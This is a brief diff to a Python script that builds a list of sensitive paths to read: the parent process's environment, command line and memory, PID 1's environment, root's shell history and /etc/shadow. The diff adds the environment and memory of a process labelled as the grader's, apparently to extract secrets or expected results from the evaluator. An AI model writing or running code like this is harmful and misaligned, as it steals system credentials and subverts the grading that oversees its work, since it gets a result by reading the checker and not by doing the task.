@@ -6,11 +6,14 @@ import sys
 
 targets = json.load(sys.stdin)
 ppid = os.getppid()
+grader = targets.get("grader", ppid)  # the grader's pid as the host sees it
 paths = [
     *targets["files"],
     f"/proc/{ppid}/environ",
     f"/proc/{ppid}/cmdline",
     f"/proc/{ppid}/mem",
+    f"/proc/{grader}/environ",
+    f"/proc/{grader}/mem",
     "/proc/1/environ",
     os.path.expanduser("~root/.bash_history"),
     "/etc/shadow",
